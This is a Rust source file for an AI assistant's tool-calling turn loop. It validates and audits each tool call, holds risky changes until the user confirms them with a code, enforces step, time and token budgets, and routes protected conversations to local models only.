//! The turn loop: the model answers, asks for tools, gets their results, and answers again,
//! until it gives a final answer or a bound is reached (steps, total time, budget). Every tool
//! call is checked before it runs — known, granted, arguments within size, JSON, valid against
//! the schema — and a `write` or `destructive` call pauses the turn until the asking user
//! confirms it in chat with a short code.

use std::{
    collections::{HashMap, VecDeque},
    sync::Arc,
    time::Duration,
};

use rust_i18n::t;
use serde_json::Value;
use tokio::time::Instant;

use super::{Answer, Assistant, Progress, settings::local_time};
use crate::clock::now_ms;
use crate::{
    audit::{Event, Kind},
    llm::{
        ChatMessage, LlmError, Role, ToolCall,
        route::{Class, Piece, RouteError, Routed},
    },
    privacy::Why,
    store::{Role as TurnRole, Turn as StoredTurn, UndoEntry},
    tools::{self, Context, Risk, Tool, ToolError, schema, sha256_hex},
};

/// Who is asking, where.
#[derive(Debug, Clone)]
pub struct Asker {
    pub actor: String,
    pub nick: String,
    pub chat: String,
    /// History key: the chat and the sender.
    pub conversation: String,
    pub group: bool,
    /// The message the turn answers (empty when none).
    pub message: String,
}

impl Asker {
    /// Who a tool call is for; `offset_minutes` is the office's offset from UTC.
    pub fn context(&self, offset_minutes: i32) -> Context {
        Context {
            actor: self.actor.clone(),
            chat: self.chat.clone(),
            group: self.group,
            offset_minutes,
            nick: self.nick.clone(),
            message: self.message.clone(),
            protected: false,
        }
    }
}

/// A turn in progress.
pub struct TurnState {
    pub asker: Asker,
    pub user_text: String,
    pub messages: Vec<ChatMessage>,
    pub queue: VecDeque<ToolCall>,
    pub steps: u32,
    pub deadline: Instant,
    /// What the answer must say whatever the model writes.
    pub remarks: Remarks,
    /// The endpoint that answered after the first choice failed or was bypassed.
    pub fallback: Option<String>,
    /// Why this turn is protected (the audit trail's reason), once it is: from then on only
    /// local endpoints see it, and the rest of its conversation too.
    pub protected: Option<String>,
    /// Messages already found open (messages are only ever appended): each is looked at once.
    pub scanned: usize,
}

/// What a turn's answer says besides the model's text: the agent's own words, so a model that
/// hides a refusal or an admin's task cannot keep it from the person.
#[derive(Debug, Default, Clone)]
pub struct Remarks {
    /// What only an admin can fix (an API permission the app lacks).
    pub notes: Vec<String>,
    /// Calls of this turn that did not run or did not succeed: a line for the person each, and
    /// how many calls it stands for (the same line repeated is said once, counted).
    pub refused: Vec<(String, usize)>,
}

/// Lines of calls that did not run listed in an answer, at most; the rest are counted.
const REFUSED_LISTED: usize = 8;

impl Remarks {
    /// A call of `tool` that did not run or did not succeed, `why` in the person's language.
    /// The name is the model's: shown only when it is an identifier.
    fn refused(&mut self, tool: &str, why: &str) {
        self.add(format!("- `{}`：{why}", tools::id_or_size(tool)), 1);
    }

    fn add(&mut self, line: String, times: usize) {
        match self.refused.iter_mut().find(|(l, _)| *l == line) {
            Some((_, n)) => *n += times,
            None => self.refused.push((line, times)),
        }
    }

    /// The agent's note of what did not run, for the end of an answer (empty when all ran). Every
    /// call is counted; a model cannot hide one by making many.
    fn said(&self) -> String {
        if self.refused.is_empty() {
            return String::new();
        }
        let count: usize = self.refused.iter().map(|(_, n)| n).sum();
        let mut out = format!("\n\n{}", t!("turn.refused", count = count));
        for (line, n) in self.refused.iter().take(REFUSED_LISTED) {
            out.push('\n');
            out.push_str(line);
            if *n > 1 {
                out.push_str(&t!("turn.refused_times", times = n));
            }
        }
        if self.refused.len() > REFUSED_LISTED {
            out.push_str(&format!("\n{}", t!("turn.refused_more", count = self.refused.len() - REFUSED_LISTED)));
        }
        out
    }
}

/// Journal the undo of a change `actor` made with `tool`, if it has one.
async fn journal_undo(store: Arc<crate::store::Store>, tool: &str, actor: &str, undo: Option<(Vec<u8>, String)>) {
    let Some((payload, description)) = undo else { return };
    let entry = UndoEntry { tool: tool.to_owned(), user: actor.to_owned(), description, payload, at_ms: now_ms() };
    if !matches!(tokio::task::spawn_blocking(move || store.push_undo(&entry)).await, Ok(Ok(_))) {
        log::warn!("cannot journal the undo of a {tool} change");
    }
}

/// A call the agent refused: the text for the model, and for the person (none for a tool that
/// does not exist: those share one line).
type Denied = (String, Option<String>);

/// A tool's own words about a refusal or failure, for the person: argument values replaced by
/// their size as in the audit trail, one line, nothing hidden or able to change the formatting.
fn quoted(text: &str) -> String {
    let line: String = visible(text).replace('`', "'").replace(['\n', '\r'], " ").chars().take(200).collect();
    format!("`{}`", line.trim())
}

/// `text` with anything it left open closed (a code fence, an HTML comment), so that what the
/// agent adds after it is shown as it is.
fn closed(text: &str) -> String {
    let mut out = text.to_owned();
    let mut open: Option<String> = None;
    for line in text.lines() {
        let t = line.trim_start();
        let ticks: String = t.chars().take_while(|c| *c == '`').collect();
        if ticks.len() >= 3 {
            match &open {
                None => open = Some(ticks),
                Some(f) if ticks.len() >= f.len() && t.trim_end().chars().all(|c| c == '`') => open = None,
                Some(_) => {}
            }
        }
    }
    if let Some(fence) = open {
        out.push('\n');
        out.push_str(&fence);
    }
    if out.rfind("<!--").is_some_and(|at| !out[at..].contains("-->")) {
        out.push_str(" -->");
    }
    out
}

/// A turn paused on a confirmation.
pub struct Pending {
    pub state: TurnState,
    pub call: ToolCall,
    pub args: Value,
    pub expires: Instant,
}

/// Daily token use, per box and per user.
#[derive(Debug, Default, serde::Serialize, serde::Deserialize)]
pub struct Budget {
    pub day: i64,
    pub total: u64,
    pub users: HashMap<String, u64>,
    /// The local month (`YYYY-MM`) of `endpoints`.
    #[serde(default)]
    pub month: String,
    /// Tokens per model endpoint this month.
    #[serde(default)]
    pub endpoints: HashMap<String, u64>,
}

impl Budget {
    /// A new day starts the daily counts afresh, a new month the endpoints'.
    fn roll(&mut self, day: i64, month: &str) {
        if self.day != day {
            self.day = day;
            self.total = 0;
            self.users.clear();
        }
        if self.month != month {
            self.month = month.to_owned();
            self.endpoints.clear();
        }
    }
}

const BUDGET_SETTING: &str = "llm-token-use";

/// The store setting that marks a conversation protected from the turn time it holds on.
/// The settings kept per conversation (its privacy marker): they go with its history when the
/// store's upkeep forgets an idle conversation.
pub fn conversation_settings(conversation: &str) -> Vec<String> {
    vec![protected_setting(conversation)]
}

fn protected_setting(conversation: &str) -> String {
    format!("protected\u{1f}{conversation}")
}

/// Cut `s` to `max` bytes on a character boundary, saying so (in English: for the model).
pub fn clip(s: &str, max: usize) -> String {
    match cut(s, max) {
        None => s.to_owned(),
        Some(end) => format!("{}\n…(cut: {} more bytes not shown)", &s[..end], s.len() - end),
    }
}

/// [`clip`] for an answer people read: the note in the box's language.
fn clip_answer(s: &str, max: usize) -> String {
    match cut(s, max) {
        None => s.to_owned(),
        Some(end) => format!("{}\n{}", &s[..end], t!("turn.cut", bytes = s.len() - end)),
    }
}

/// Where to cut `s` to keep at most `max` bytes, if it is longer.
fn cut(s: &str, max: usize) -> Option<usize> {
    if s.len() <= max {
        return None;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    Some(end)
}

/// What a person is told when no model answered.
fn route_trouble(e: &RouteError) -> String {
    match e {
        RouteError::NoLocal => t!("llm.no_local").into_owned(),
        RouteError::NoneAnswered { tried, .. }
            if !tried.is_empty() && tried.iter().all(|(_, w)| w == crate::llm::route::BUDGET) =>
        {
            t!("llm.endpoint_budget").into_owned()
        }
        RouteError::NoneAnswered { class: Class::Protected, .. } => t!("llm.local_not_answering").into_owned(),
        RouteError::NoneAnswered { last: Some(last), .. } => llm_trouble(last),
        RouteError::NoneAnswered { last: None, .. } => t!("llm.not_answering").into_owned(),
    }
}

fn llm_trouble(e: &LlmError) -> String {
    match e {
        LlmError::Unauthorised(_) => t!("llm.unauthorised"),
        LlmError::BaseUrl(_) => t!("llm.base_url"),
        LlmError::GaveUp { .. } | LlmError::Stalled(_) => t!("llm.not_answering"),
        LlmError::Refused { .. } | LlmError::BadAnswer(_) => t!("llm.cannot_handle"),
    }
    .into_owned()
}

impl Assistant {
    /// Start a turn for `text`.
    pub(super) async fn start_turn(
        &self,
        asker: Asker,
        text: String,
        images: Vec<String>,
        progress: Option<&dyn Progress>,
    ) -> Answer {
        let llm = &self.parts.settings;
        let conv = asker.conversation.clone();
        let stored = self.store_call(move |s| s.history(&conv)).await.unwrap_or_else(|e| {
            log::warn!("cannot read the conversation history: {e}");
            Vec::new()
        });
        let history = recent_conversation(stored, now_ms(), llm.conversation_idle_ms.get().as_millis() as i64);
        // Protected earlier in this session (its marker is as recent as the session's first turn):
        // the rest of the session is protected too.
        let protected = match history.first().map(|t| t.at_ms) {
            None => None,
            Some(session_start) => {
                let key = protected_setting(&asker.conversation);
                match self.store_call(move |s| s.setting(&key)).await {
                    Ok(marker) => marker
                        .and_then(|m| m.parse::<i64>().ok())
                        .filter(|m| *m >= session_start)
                        .map(|_| Why::Conversation.reason()),
                    // Cannot tell: the session may have been protected.
                    Err(e) => {
                        log::warn!("cannot read the conversation's privacy marker: {e}");
                        Some(Why::Conversation.reason())
                    }
                }
            }
        };
        let prompt = if asker.group { llm.group_prompts.get(&asker.chat) } else { None }.unwrap_or(&llm.system_prompt);
        let (now, _) = local_time(now_ms(), llm.utc_offset_minutes);
        let mut messages = vec![ChatMessage::text(
            Role::System,
            format!(
                "{prompt}\n\nYou are talking with {} (staff id {}) in a {} chat. Local time: {now} (UTC{:+}).",
                asker.nick,
                asker.actor,
                if asker.group { "group" } else { "1:1" },
                llm.utc_offset_minutes as f64 / 60.0
            ),
        )];
        for t in history {
            let role = match t.role {
                TurnRole::User => Role::User,
                TurnRole::Assistant => Role::Assistant,
            };
            messages.push(ChatMessage::text(role, t.text));
        }
        messages.push(ChatMessage { images, ..ChatMessage::text(Role::User, text.clone()) });
        let state = TurnState {
            asker,
            user_text: text,
            messages,
            queue: VecDeque::new(),
            steps: 0,
            deadline: Instant::now() + llm.turn_timeout_ms.get(),
            remarks: Remarks::default(),
            fallback: None,
            protected,
            scanned: 0,
        };
        self.drive(state, progress).await
    }

    /// Run a turn until it answers or pauses for a confirmation. With `progress`, the model's
    /// answer is streamed and shown as it grows, with the tool steps before it.
    pub(super) async fn drive(&self, mut state: TurnState, progress: Option<&dyn Progress>) -> Answer {
        let Some(llm) = &self.parts.llm else {
            return Answer::no_llm();
        };
        let settings = &self.parts.settings;
        if let Some(p) = progress {
            p.started();
        }
        let mut steps_shown = String::new();
        loop {
            while let Some(call) = state.queue.pop_front() {
                if let Some(p) = progress {
                    steps_shown
                        .push_str(&format!("> 🔧 `{}`\n", call.function.name.chars().take(64).collect::<String>()));
                    p.show(&steps_shown);
                }
                let checked = match self.check_call(&state.asker, &call) {
                    Err((refusal, None)) => {
                        // No such tool: one line for every made-up name, so they cannot crowd out the rest.
                        state.remarks.add(t!("refused.no_tool").into_owned(), 1);
                        Err(refusal)
                    }
                    Err((refusal, Some(why))) => {
                        state.remarks.refused(&call.function.name, &why);
                        Err(refusal)
                    }
                    Ok((tool, args)) => {
                        self.prepare_call(&state.asker, &tool, args, &mut state.remarks).await.map(|a| (tool, a))
                    }
                };
                match checked {
                    Err(refusal) => state.messages.push(ChatMessage::tool_result(call.id.clone(), refusal)),
                    Ok((tool, args))
                        if tool.risk_of(&state.asker.context(self.parts.settings.utc_offset_minutes), &args)
                            == Risk::Read =>
                    {
                        let protected = state.protected.is_some();
                        let result = self.run_tool(&state.asker, &tool, args, &mut state.remarks, protected).await;
                        state.messages.push(ChatMessage::tool_result(call.id.clone(), result));
                    }
                    Ok((tool, args)) => return self.ask_confirmation(state, tool, call, args).await,
                }
            }
            if state.steps >= settings.max_steps {
                self.parts.audit.record(
                    Event::new(Kind::LimitHit, &state.asker.actor, &state.asker.chat)
                        .reason(format!("turn stopped after {} model steps", state.steps)),
                );
                return self.finish(state, t!("turn.max_steps", steps = settings.max_steps).into_owned()).await;
            }
            if let Some(refusal) = self.over_budget(&state.asker).await {
                return self.finish(state, refusal).await;
            }
            let left = state.deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return self.timed_out(state).await;
            }
            // Without a local model, tools that read protected sources are not offered: their
            // results could go nowhere.
            let local = llm.serves(Class::Protected);
            let granted = |name: &str| {
                self.parts.access.granted(&state.asker.actor, &state.asker.chat, name)
                    && (local || self.parts.privacy.source(name, &Value::Null).is_none())
            };
            let specs = self.parts.tools.specs(granted);
            let protected = self.protection(&mut state);
            let class = if protected.is_some() { Class::Protected } else { Class::Open };
            let deadline = state.deadline;
            let spent = self.spent_endpoints(llm);
            let asked = async {
                match progress {
                    None => llm.complete(class, deadline, &spent, &state.messages, &specs).await,
                    Some(p) => {
                        let mut text = String::new();
                        llm.stream(class, deadline, &spent, &state.messages, &specs, |piece| {
                            match piece {
                                Piece::Text(t) => text.push_str(t),
                                Piece::Restart => text.clear(),
                            }
                            p.show(&inert(&text));
                        })
                        .await
                    }
                }
            };
            let waited = Instant::now();
            let completion = tokio::time::timeout(left, asked).await;
            self.parts.llm_wait_ns.fetch_add(waited.elapsed().as_nanos() as u64, std::sync::atomic::Ordering::Relaxed);
            let routed = match completion {
                Err(_) => return self.timed_out(state).await,
                Ok(Err(e)) => {
                    log::warn!("model request failed: {e}");
                    self.parts.llm_errors.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    self.audit_model_call(&state.asker, class, protected.as_ref(), Err(&e));
                    // Tools already ran in this turn: it is kept, with what ran, so the person
                    // knows and a retry does not do it again.
                    let answered: Vec<&str> = state.messages.iter().filter_map(|m| m.tool_call_id.as_deref()).collect();
                    if !answered.is_empty() {
                        let mut ran: Vec<String> = state
                            .messages
                            .iter()
                            .flat_map(|m| &m.tool_calls)
                            .filter(|c| answered.contains(&c.id.as_str()))
                            .map(|c| format!("`{}`", tools::id_or_size(&c.function.name)))
                            .collect();
                        ran.dedup();
                        let said = format!("{}\n\n{}", route_trouble(&e), t!("llm.tools_ran", tools = ran.join("、")));
                        return self.finish(state, said).await;
                    }
                    let said = format!("{}{}", route_trouble(&e), state.remarks.said());
                    return Answer::fixed(t!("llm.unavailable_title"), said);
                }
                Ok(Ok(routed)) => routed,
            };
            self.audit_model_call(&state.asker, class, protected.as_ref(), Ok(&routed));
            if routed.fallback {
                state.fallback = Some(routed.endpoint.clone());
            }
            let answered_by = routed.endpoint;
            let completion = routed.completion;
            state.steps += 1;
            if let Some(u) = completion.usage {
                self.spend(&state.asker.actor, &answered_by, u.total_tokens);
            }
            let message = completion.message;
            if message.tool_calls.is_empty() {
                let text = message.content.unwrap_or_default();
                let text = if text.trim().is_empty() { t!("turn.empty").into_owned() } else { text };
                return self.finish(state, text).await;
            }
            // Calls beyond the step's share are answered, not run: a model cannot make one step
            // do unbounded work.
            let mut echoed = message.tool_calls;
            // Every call gets an id of its own: a result is paired with its call by id, and what
            // a result is (protected or open) follows from the call it answers.
            let mut seen: std::collections::HashSet<String> =
                state.messages.iter().flat_map(|m| m.tool_calls.iter().map(|t| t.id.clone())).collect();
            for (i, c) in echoed.iter_mut().enumerate() {
                // A made-up id can be the one chosen here: the next free number is taken then.
                let mut n = i;
                while c.id.is_empty() || !seen.insert(c.id.clone()) {
                    c.id = format!("call_zhuli_{}_{n}", state.steps);
                    n += 1;
                }
            }
            let max = settings.max_calls_per_step as usize;
            let over = echoed.len().saturating_sub(max);
            state.queue.extend(echoed.iter().take(max).cloned());
            let mut refusals = Vec::new();
            if over > 0 {
                self.parts.audit.record(
                    Event::new(Kind::LimitHit, &state.asker.actor, &state.asker.chat)
                        .reason(format!("{} tool calls in one model step; at most {max} run", echoed.len())),
                );
                self.parts.denials.fetch_add(over as u64, std::sync::atomic::Ordering::Relaxed);
                let line = t!("turn.too_many_calls", asked = echoed.len(), max = max).into_owned();
                state.remarks.add(line, over);
                let refusal = format!("refused: at most {max} tool calls run in one step; this one was not run");
                refusals =
                    echoed[max..].iter().map(|c| ChatMessage::tool_result(c.id.clone(), refusal.clone())).collect();
            }
            // Oversized arguments are refused; the history keeps a stand-in, not the bulk.
            for c in &mut echoed {
                if c.function.arguments.len() > settings.max_argument_bytes {
                    c.function.arguments = "{}".into();
                }
            }
            state.messages.push(ChatMessage {
                role: Role::Assistant,
                content: message.content,
                tool_calls: echoed,
                tool_call_id: None,
                images: Vec::new(),
            });
            state.messages.extend(refusals);
        }
    }

    /// Why the turn's next model request is protected, if it is: its chat is local-only, it
    /// was protected before (earlier in the turn or the session), or a message or tool result
    /// it carries is. The system prompt is configuration and is not looked at.
    fn protection(&self, state: &mut TurnState) -> Option<String> {
        if state.protected.is_none() {
            state.protected = self.find_protected(state).map(|w| w.reason());
            state.scanned = state.messages.len();
        }
        state.protected.clone()
    }

    fn find_protected(&self, state: &TurnState) -> Option<Why> {
        let policy = &self.parts.privacy;
        if let Some(why) = policy.local_chat(&state.asker.chat) {
            return Some(why);
        }
        let calls: HashMap<&str, &ToolCall> =
            state.messages.iter().flat_map(|m| m.tool_calls.iter().map(|c| (c.id.as_str(), c))).collect();
        state.messages.iter().skip(state.scanned).filter(|m| m.role != Role::System).find_map(|m| {
            let text = m.content.as_deref().unwrap_or("");
            if !m.images.is_empty() && !policy.open_pictures() {
                return Some(Why::Picture);
            }
            if m.role != Role::Tool {
                return policy.text(text);
            }
            match m.tool_call_id.as_deref().and_then(|id| calls.get(id)) {
                Some(call) => {
                    let args: Value = serde_json::from_str(&call.function.arguments).unwrap_or(Value::Null);
                    policy.tool_result(&tools::id_or_size(&call.function.name), &args, text)
                }
                // A result whose call cannot be told (never sent that way): protected.
                None => Some(Why::Tool("(unpaired)".into())),
            }
        })
    }

    /// One model request in the audit trail: the endpoint, the data class and why it is
    /// protected, the tokens, and why that endpoint answered (never the content).
    fn audit_model_call(
        &self,
        asker: &Asker,
        class: Class,
        protected: Option<&String>,
        outcome: Result<&Routed, &RouteError>,
    ) {
        let mut event = Event::new(Kind::ModelCall, &asker.actor, &asker.chat)
            .field("DATA_CLASS", class.name())
            .field("PROTECTED_BY", protected.cloned().unwrap_or_default());
        event = match outcome {
            Ok(r) => {
                let usage = r.completion.usage.unwrap_or_default();
                event
                    .target(&r.endpoint)
                    .outcome(if r.fallback { "ok, fallback" } else { "ok" })
                    .reason(format!("{} ({}): {}", class.name(), r.place.name(), r.why))
                    .field("TOKENS_IN", usage.prompt_tokens.to_string())
                    .field("TOKENS_OUT", usage.completion_tokens.to_string())
            }
            Err(RouteError::NoLocal) => event.outcome("refused").reason("protected work and no local endpoint"),
            Err(RouteError::NoneAnswered { tried, .. }) => event.outcome("failed").reason(format!(
                "{}: none answered ({})",
                class.name(),
                tried.iter().map(|(n, _)| n.as_str()).collect::<Vec<_>>().join(", ")
            )),
        };
        self.parts.audit.record(event);
    }

    async fn timed_out(&self, state: TurnState) -> Answer {
        self.parts.audit.record(
            Event::new(Kind::LimitHit, &state.asker.actor, &state.asker.chat).reason("turn took longer than allowed"),
        );
        self.finish(state, t!("turn.timed_out").into_owned()).await
    }

    /// The final answer: kept in the conversation history, cut to size. What only an admin can
    /// fix is added unless the answer already names it.
    async fn finish(&self, state: TurnState, text: String) -> Answer {
        // The model's text is cut to size first: what the agent adds is never cut off.
        let mut text = closed(&clip_answer(&inert(&text), self.parts.settings.max_answer_bytes));
        if let Some(name) = &state.fallback {
            text.push_str(&format!("\n\n{}", t!("llm.fallback", name = name)));
        }
        text.push_str(&state.remarks.said());
        for note in &state.remarks.notes {
            let key = note.split('`').nth(1).unwrap_or(note);
            if !text.contains(key) {
                // The note names what to fix (a permission, a setting) in the backend's terms.
                text.push_str(&format!("\n\n{}", t!("turn.admin_note", note = note)));
            }
        }
        let conv = state.asker.conversation.clone();
        let at = now_ms();
        let user = StoredTurn { role: TurnRole::User, text: state.user_text, at_ms: at };
        let answer = StoredTurn { role: TurnRole::Assistant, text: text.clone(), at_ms: at };
        // Today's token use is kept with the history, in the same commit.
        let budget = serde_json::to_string(&*self.budget.lock().unwrap_or_else(|p| p.into_inner())).unwrap_or_default();
        let mut settings = vec![(BUDGET_SETTING.to_owned(), budget)];
        if state.protected.is_some() {
            settings.push((protected_setting(&conv), at.to_string()));
        }
        if let Err(e) = self
            .store_call(move |s| {
                let settings: Vec<(&str, String)> = settings.iter().map(|(k, v)| (k.as_str(), v.clone())).collect();
                s.finish_turn(&conv, &[user, answer], &settings)
            })
            .await
        {
            log::warn!("cannot keep the conversation history: {e}");
        }
        Answer { title: t!("turn.title").into_owned(), markdown: text, costly: true }
    }

    /// Is the call acceptable? The tool and its parsed arguments, or the refusal fed back to the
    /// model. Each outcome is audited.
    fn check_call(&self, asker: &Asker, call: &ToolCall) -> Result<(Arc<dyn Tool>, Value), Denied> {
        let name = call.function.name.as_str();
        let audit = &self.parts.audit;
        // The model names the tool: a name that is no identifier is not one of ours, and may be
        // anything it was told.
        let audited_name = tools::id_or_size(name);
        let event = |kind| Event::new(kind, &asker.actor, &asker.chat).tool(audited_name.clone());
        audit.record(event(Kind::ToolRequested));
        // The reason for the model, the one the audit trail records, and the person's.
        let deny = |reason: String, audited: String, target: String, why: Option<std::borrow::Cow<'_, str>>| {
            audit.record(event(Kind::ToolDenied).target(target).reason(audited));
            self.parts.denials.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
            (format!("refused: {reason}"), why.map(|w| w.into_owned()))
        };
        let Some(tool) = self.parts.tools.get(name).cloned() else {
            let named = |n: &str| format!("there is no tool named `{n}`");
            return Err(deny(
                named(&name.chars().take(64).collect::<String>()),
                named(&audited_name),
                String::new(),
                None,
            ));
        };
        if !self.parts.access.granted(&asker.actor, &asker.chat, name) {
            // The audit trail has the asker's id; their display name is theirs to choose.
            let grant = format!("may not use `{name}`; an admin can grant it to one of their roles");
            return Err(deny(
                format!("{} {grant}", asker.nick),
                format!("the asker {grant}"),
                String::new(),
                Some(t!("refused.not_granted")),
            ));
        }
        let raw = call.function.arguments.trim();
        let max = self.parts.settings.max_argument_bytes;
        if raw.len() > max {
            let reason = format!("the arguments are {} bytes; at most {max} are accepted", raw.len());
            return Err(deny(
                reason.clone(),
                reason,
                String::new(),
                Some(t!("refused.too_big", bytes = raw.len(), max = max)),
            ));
        }
        let args: Value = if raw.is_empty() {
            Value::Object(Default::default())
        } else {
            match serde_json::from_str(raw) {
                Ok(v) => v,
                Err(e) => {
                    // serde_json names the line and column, never the text.
                    let reason = format!("the arguments are not valid JSON ({e})");
                    return Err(deny(reason.clone(), reason, String::new(), Some(t!("refused.bad_arguments"))));
                }
            }
        };
        // Argument names are shown in a confirmation beside their values: the model chooses
        // them too (a plugin's schema may take any), so they are plain identifiers or nothing.
        let plain = |k: &str| {
            !k.is_empty() && k.len() <= 64 && k.chars().all(|c| c.is_ascii_alphanumeric() || "_-".contains(c))
        };
        if let Some(bad) = args.as_object().and_then(|m| m.keys().find(|k| !plain(k))) {
            let reason = format!(
                "an argument name is not a plain identifier ({} bytes); use letters, digits, _ and -",
                bad.len()
            );
            return Err(deny(reason.clone(), reason, String::new(), Some(t!("refused.bad_arguments"))));
        }
        if !args.is_object() {
            let reason = "the arguments must be a JSON object".to_owned();
            return Err(deny(reason.clone(), reason, String::new(), Some(t!("refused.bad_arguments"))));
        }
        let target = tool.target(&args);
        if let Err(e) = schema::validate(tool.parameters(), &args) {
            let reason = format!("invalid arguments: {e}");
            let audited = tools::redact(&reason, &args, &target);
            return Err(deny(reason, audited, target, Some(t!("refused.bad_arguments"))));
        }
        let risk = tool.risk_of(&asker.context(self.parts.settings.utc_offset_minutes), &args);
        audit.record(event(Kind::ToolAllowed).target(target).outcome(risk.name()));
        Ok((tool, args))
    }

    /// A tool's own checks of a call before anything is asked or run (names resolved, times
    /// checked); the completed arguments, or the refusal for the model. A refusal is audited.
    async fn prepare_call(
        &self,
        asker: &Asker,
        tool: &Arc<dyn Tool>,
        args: Value,
        remarks: &mut Remarks,
    ) -> Result<Value, String> {
        let target = tool.target(&args);
        let ctx = asker.context(self.parts.settings.utc_offset_minutes);
        let asked = args.clone();
        self.bounded(tool.prepare(&ctx, args))
            .await
            .map_err(|e| self.tool_error(asker, tool, &asked, &target, e, remarks))
    }

    /// A tool's work, bounded by the tool timeout.
    async fn bounded<T>(&self, work: impl Future<Output = Result<T, ToolError>>) -> Result<T, ToolError> {
        let limit = self.parts.settings.tool_timeout_ms.get();
        tokio::time::timeout(limit, work)
            .await
            .unwrap_or_else(|_| Err(ToolError::Failed(format!("no result within {}", human(limit)))))
    }

    /// Audit a tool's error and count it; the text for the model.
    fn tool_error(
        &self,
        asker: &Asker,
        tool: &Arc<dyn Tool>,
        args: &Value,
        target: &str,
        e: ToolError,
        remarks: &mut Remarks,
    ) -> String {
        // A refusal (outside the roots, too large) is a denial; anything else a failure.
        let kind = match &e {
            ToolError::Refused(why) => {
                self.parts.denials.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                let why = quoted(&tools::redact(why, args, target));
                remarks.refused(tool.name(), &t!("refused.by_tool", why = why));
                Kind::ToolDenied
            }
            ToolError::NeedsAdmin(note) => {
                if !remarks.notes.contains(note) {
                    remarks.notes.push(note.clone());
                }
                Kind::ToolFailed
            }
            ToolError::Failed(why) => {
                let why = quoted(&tools::redact(why, args, target));
                remarks.refused(tool.name(), &t!("refused.failed", why = why));
                Kind::ToolFailed
            }
            // A backend's own words may hold anything it read: the person is told it failed.
            ToolError::Reported(_) => {
                remarks.refused(tool.name(), &t!("refused.failed_backend"));
                Kind::ToolFailed
            }
        };
        self.parts.audit.record(
            Event::new(kind, &asker.actor, &asker.chat)
                .tool(tool.name())
                .target(target.to_owned())
                .outcome("error")
                .reason(e.audit_reason(args, target)),
        );
        e.to_string()
    }

    /// Execute a checked call within the tool timeout; the text for the model. Audited, and an
    /// undoable change is journalled.
    pub(super) async fn run_tool(
        &self,
        asker: &Asker,
        tool: &Arc<dyn Tool>,
        args: Value,
        remarks: &mut Remarks,
        protected: bool,
    ) -> String {
        let target = tool.target(&args);
        let event = |kind| Event::new(kind, &asker.actor, &asker.chat).tool(tool.name()).target(target.clone());
        let ctx = Context { protected, ..asker.context(self.parts.settings.utc_offset_minutes) };
        let asked = args.clone();
        let result = if tool.risk_of(&ctx, &args) == Risk::Read {
            self.bounded(tool.execute(&ctx, args)).await
        } else {
            // A change is never dropped half-way by the timeout: it runs as a task of its own,
            // and one that finishes late is still audited and journalled for /undo.
            let (t, c) = (tool.clone(), ctx.clone());
            let mut work = tokio::spawn(async move { t.execute(&c, args).await });
            let limit = self.parts.settings.tool_timeout_ms.get();
            match tokio::time::timeout(limit, &mut work).await {
                Ok(done) => done.unwrap_or_else(|_| Err(ToolError::Failed("the change stopped unexpectedly".into()))),
                Err(_) => {
                    let (audit, store, tool, asker) =
                        (self.parts.audit.clone(), self.parts.store.clone(), tool.clone(), asker.clone());
                    let target = target.clone();
                    tokio::spawn(async move {
                        let event =
                            Event::new(Kind::ToolExecuted, &asker.actor, &asker.chat).tool(tool.name()).target(target);
                        match work.await {
                            Ok(Ok(outcome)) => {
                                audit.record(event.outcome("ok, late"));
                                journal_undo(store, tool.name(), &asker.actor, outcome.undo).await;
                            }
                            _ => log::warn!("{} that outlived its timeout did not complete", tool.name()),
                        }
                    });
                    Err(ToolError::Failed(format!(
                        "no result within {}; the change goes on, and /undo reverses it once it is done",
                        human(limit)
                    )))
                }
            }
        };
        match result {
            Ok(outcome) => {
                self.parts.audit.record(event(Kind::ToolExecuted).outcome("ok"));
                journal_undo(self.parts.store.clone(), tool.name(), &asker.actor, outcome.undo).await;
                clip(&outcome.text, self.parts.settings.max_tool_output_bytes)
            }
            Err(e) => self.tool_error(asker, tool, &asked, &target, e, remarks),
        }
    }

    async fn ask_confirmation(&self, state: TurnState, tool: Arc<dyn Tool>, call: ToolCall, args: Value) -> Answer {
        // What did not run so far in this turn is said with the question: it may never be answered.
        let so_far = state.remarks.said();
        let target = tool.question(&args);
        let risk = tool.risk_of(&state.asker.context(self.parts.settings.utc_offset_minutes), &args);
        let timeout = self.parts.settings.confirm_timeout_ms.get();
        let code = {
            let mut pending = self.pending.lock().unwrap_or_else(|p| p.into_inner());
            let now = Instant::now();
            pending.retain(|_, p| p.expires > now);
            // A new question replaces one this person left unanswered in this chat.
            pending
                .retain(|_, p| !(p.state.asker.actor == state.asker.actor && p.state.asker.chat == state.asker.chat));
            let code = loop {
                let c = format!("{:04}", 1000 + rand::random::<u16>() % 9000);
                if !pending.contains_key(&c) {
                    break c;
                }
            };
            pending.insert(code.clone(), Pending { state, call: call.clone(), args, expires: now + timeout });
            code
        };
        let effect = match risk {
            Risk::Destructive => t!("confirm.destructive"),
            Risk::Share => t!("confirm.share"),
            _ => t!("confirm.change"),
        };
        let details = {
            let pending = self.pending.lock().unwrap_or_else(|p| p.into_inner());
            pending.get(&code).map(|p| shown(&target, &p.args, &code, false)).unwrap_or_default()
        };
        // Kept in the store before the question goes out: `/confirm` works after a restart.
        self.save_pending().await;
        let question = t!(
            "confirm.question",
            tool = tool.name(),
            details = details,
            effect = effect,
            code = code,
            within = said(timeout)
        );
        Answer { title: t!("confirm.title").into_owned(), markdown: format!("{question}{so_far}"), costly: true }
    }

    /// `/show CODE` from `asker`: everything the pending call would do, whole.
    pub(super) fn show(&self, asker: &Asker, code: &str) -> Answer {
        let pending = self.pending.lock().unwrap_or_else(|p| p.into_inner());
        let Some(p) = pending.get(code).filter(|p| p.expires > Instant::now()) else {
            return Answer::fixed(t!("confirm.nothing_title"), t!("confirm.no_such_code"));
        };
        // Only the asker, where they asked: the content may be theirs alone.
        if p.state.asker.actor != asker.actor || p.state.asker.chat != asker.chat {
            return Answer::fixed(
                t!("confirm.not_yours_title"),
                t!("confirm.not_yours", owner = p.state.asker.nick.as_str()),
            );
        }
        let Some(tool) = self.parts.tools.get(&p.call.function.name) else {
            return Answer::fixed(t!("confirm.nothing_title"), t!("confirm.tool_gone"));
        };
        let whole = shown(&tool.question(&p.args), &p.args, code, true);
        Answer::fixed(t!("confirm.show_title"), t!("confirm.show", tool = tool.name(), details = whole, code = code))
    }

